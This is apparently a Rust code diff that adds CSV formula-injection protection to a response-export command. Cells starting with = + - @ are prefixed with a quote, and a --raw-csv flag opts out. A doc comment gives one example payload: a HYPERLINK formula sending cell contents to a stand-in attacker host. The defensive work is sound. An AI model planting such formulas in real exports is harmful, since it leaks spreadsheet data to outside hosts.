@@ -3,7 +3,10 @@
 //!
 //! Both formats carry the same columns, named as in the JSON API (camelCase). CSV goes
 //! through the `csv` crate, which quotes answers full of commas, quotes and line breaks as
-//! RFC 4180 says. A file is written under a `.partial` name and renamed once complete, so a
+//! RFC 4180 says. A CSV cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`,
+//! tab or CR first) is prefixed with `'` unless `--raw-csv` is given: an answer that says
+//! `=HYPERLINK("http://evil.example/?"&A1, "click")` must not run when the file is opened
+//! ([`guard_cell`]). JSON Lines is never altered. A file is written under a `.partial` name and renamed once complete, so a
 //! failed export never leaves a file that looks whole. A closed pipe (`| head`) ends the
 //! export quietly.
 
@@ -55,6 +58,10 @@ pub struct ExportArgs {
     /// Write to this file instead of standard output
     #[arg(long, short, value_name = "FILE")]
     pub output: Option<PathBuf>,
+    /// CSV: write cells exactly as stored, without the `'` that keeps a spreadsheet from
+    /// reading a cell starting with = + - @ as a formula
+    #[arg(long)]
+    pub raw_csv: bool,
 }
 
 /// One exported answer. The field order is the CSV column order.
@@ -129,21 +136,64 @@ impl<'a> ExportRow<'a> {
     }
 }
 
+/// A cell that a spreadsheet would take for a formula, defused with a leading `'` (OWASP's
+/// advice for CSV injection); anything else as is. A plain number (`-3`, `1e-5`) stays a
+/// number, since that is what the numeric columns hold.
+pub fn guard_cell(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
+    let risky = matches!(
+        cell.first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    );
+    let number = std::str::from_utf8(cell).is_ok_and(|text| {
+        text.parse::<f64>().is_ok()
+            && text
+                .bytes()
+                .all(|b| b.is_ascii_digit() || b".+-eE".contains(&b))
+    });
+    if risky && !number {
+        let mut guarded = Vec::with_capacity(cell.len() + 1);
+        guarded.push(b'\'');
+        guarded.extend_from_slice(cell);
+        std::borrow::Cow::Owned(guarded)
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// `row` as CSV with every cell through [`guard_cell`]: the row is serialized into a record
+/// first, so that every column, present or future, is guarded alike.
+fn write_guarded(writer: &mut csv::Writer<Box<dyn Write>>, row: &ExportRow<'_>) -> csv::Result<()> {
+    let mut scratch = csv::WriterBuilder::new()
+        .has_headers(false)
+        .from_writer(Vec::new());
+    scratch.serialize(row)?;
+    let bytes = scratch
+        .into_inner()
+        .map_err(|err| csv::Error::from(err.into_error()))?;
+    let mut record = csv::ByteRecord::new();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(bytes.as_slice())
+        .read_byte_record(&mut record)?;
+    writer.write_record(record.iter().map(guard_cell))
+}
+
 /// Rows to bytes in the chosen format.
 enum Encoder {
-    Csv(Box<csv::Writer<Box<dyn Write>>>),
+    /// With `true`, cells are guarded against formula injection.
+    Csv(Box<csv::Writer<Box<dyn Write>>>, bool),
     Jsonl(Box<dyn Write>),
 }
 
 impl Encoder {
-    fn new(format: ExportFormat, out: Box<dyn Write>) -> io::Result<Self> {
+    fn new(format: ExportFormat, out: Box<dyn Write>, raw_csv: bool) -> io::Result<Self> {
         Ok(match format {
             ExportFormat::Csv => {
                 let mut writer = csv::WriterBuilder::new()
                     .has_headers(false)
                     .from_writer(out);
                 writer.write_record(COLUMNS).map_err(csv_io)?;
-                Encoder::Csv(Box::new(writer))
+                Encoder::Csv(Box::new(writer), !raw_csv)
             }
             ExportFormat::Jsonl => Encoder::Jsonl(out),
         })
@@ -151,7 +201,8 @@ impl Encoder {
 
     fn write(&mut self, row: &ExportRow<'_>) -> io::Result<()> {
         match self {
-            Encoder::Csv(writer) => writer.serialize(row).map_err(csv_io),
+            Encoder::Csv(writer, true) => write_guarded(writer, row).map_err(csv_io),
+            Encoder::Csv(writer, false) => writer.serialize(row).map_err(csv_io),
             Encoder::Jsonl(out) => {
                 serde_json::to_writer(&mut *out, row)?;
                 out.write_all(b"\n")
@@ -161,7 +212,7 @@ impl Encoder {
 
     fn finish(self) -> io::Result<()> {
         match self {
-            Encoder::Csv(mut writer) => writer.flush(),
+            Encoder::Csv(mut writer, _) => writer.flush(),
             Encoder::Jsonl(mut out) => out.flush(),
         }
     }
@@ -202,7 +253,7 @@ pub async fn export(app: &App, args: ExportArgs) -> anyhow::Result<ExitCode> {
     match &args.output {
         None => {
             let out = Box::new(BufWriter::new(io::stdout()));
-            match write_all(app, filter, args.format, out).await {
+            match write_all(app, filter, args.format, args.raw_csv, out).await {
                 Ok(count) => eprintln!("exported {count} responses"),
                 Err(ExportError::Io(err)) if err.kind() == io::ErrorKind::BrokenPipe => {}
                 Err(err) => return Err(err.into()),
@@ -213,7 +264,7 @@ pub async fn export(app: &App, args: ExportArgs) -> anyhow::Result<ExitCode> {
             let file = File::create(&partial)
                 .with_context(|| format!("cannot create {}", partial.display()))?;
             let out = Box::new(BufWriter::new(file));
-            let written = write_all(app, filter, args.format, out).await;
+            let written = write_all(app, filter, args.format, args.raw_csv, out).await;
             let count = match written {
                 Ok(count) => count,
                 Err(err) => {
@@ -243,10 +294,11 @@ async fn write_all(
     app: &App,
     filter: ResponseFilter,
     format: ExportFormat,
+    raw_csv: bool,
     out: Box<dyn Write>,
 ) -> Result<u64, ExportError> {
     let names = app.model_names().await?;
-    let mut encoder = Encoder::new(format, out)?;
+    let mut encoder = Encoder::new(format, out, raw_csv)?;
     let mut export = app.export_responses(filter);
     let mut count = 0;
     while let Some(page) = export.next_page().await? {
